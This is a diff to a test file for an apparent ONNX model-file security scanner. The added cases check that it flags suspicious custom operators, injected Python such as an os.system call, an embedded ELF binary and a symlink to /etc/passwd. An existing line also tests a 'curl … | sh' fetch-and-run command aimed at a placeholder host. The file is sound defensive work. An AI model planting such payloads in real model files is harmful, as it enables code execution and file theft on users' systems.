@@ -92,6 +92,7 @@ describe('ONNX', () => {
     ['Relu', 'pkg.mine', ['MEDIUM model-custom-operator']],
     ['ExecuteShell', '', ['MEDIUM model-custom-operator']],
     ['RunCommand', 'com.microsoft', ['MEDIUM model-custom-operator']],
+    ['PyReverse', 'ai.onnx.contrib', ['MEDIUM model-custom-operator']],
     ['SystemExec', 'ai.onnx.contrib', ['MEDIUM model-custom-operator']],
     ['BertTokenizer', 'ai.onnx.contrib', ['LOW model-custom-operator']]
   ])('reports the operator %s of %s, wherever it stands', (operator, domain, wanted) => {
@@ -121,6 +122,46 @@ describe('ONNX', () => {
     expect(said(model([relu], markup))).toEqual(['MEDIUM model-metadata-code']);
     expect(said(model([relu], text(6, 'curl http://x.example/a | sh')))).toEqual(['MEDIUM model-metadata-code']);
     expect(said(model([relu], text(6, 'A model of trees: wget https://example.org/a.onnx')))).toEqual([]);
+  });
+
+  it('reports code in what operators are given, in descriptions of graphs, and programs in fields that no version has', () => {
+    const code = "__import__('os').system('id')";
+    const wanted = ['MEDIUM model-metadata-code'];
+    expect(said(model([node('Relu', '', attribute('code', text(4, code)))]))).toEqual(wanted);
+    expect(said(model([node('Einsum', '', attribute('equation', text(4, 'bij,bjk->bik')))]))).toEqual([]);
+    expect(said(model([relu, text(10, code)]))).toEqual(wanted);
+    expect(
+      said(model([relu], message(25, text(1, 'F'), text(8, code), bytes([0x3a], relu.subarray(1)), text(10, 'f'))))
+    ).toEqual(wanted);
+    const program = bytes('\x7fELF', 2, 1, 1, zeros(9), 2, 0, 62, 0, zeros(44));
+    expect(said(model([relu], sizedField(99, program)))).toEqual(['HIGH program-in-model']);
+    expect(said(model([relu, sizedField(99, program)]))).toEqual(['HIGH program-in-model']);
+    expect(said(bytes(model([relu]), program))).toEqual(['MEDIUM program-in-model']);
+  });
+
+  it('asks whether the model has the function of that overload', () => {
+    const called = model([node('F', 'my.own', text(8, 'fast'))], func('F', 'my.own', relu));
+    expect(said(called)).toEqual(['MEDIUM model-custom-operator']);
+    const overloaded = message(25, text(1, 'F'), bytes([0x3a], relu.subarray(1)), text(10, 'my.own'), text(13, 'fast'));
+    expect(said(model([node('F', 'my.own', text(8, 'fast'))], overloaded))).toEqual([]);
+  });
+
+  it('reports a link out of the folder', () => {
+    const beside = {
+      module: () => undefined,
+      leadsTo: (path: string) => (path === 'w.bin' ? '/etc/passwd' : undefined)
+    };
+    const of = (location: string): string[] =>
+      run(model([relu, message(5, ...external({ location }))]), { beside }, 'model.onnx').findings.map(
+        ({ severity, evidence }) => `${severity} ${evidence}`
+      );
+    expect(of('w.bin')).toEqual(['HIGH w.bin -> /etc/passwd']);
+    expect(of('v.bin')).toEqual([]);
+  });
+
+  it('reports what breaks off', () => {
+    const whole = bytes(message(7, relu, node('PyOp', 'ai.onnx.contrib')));
+    expect(said(whole.slice(0, -2))[0]).toBe('HIGH model-python-operator');
   });
 
   it('reports sides that no memory holds', () => {
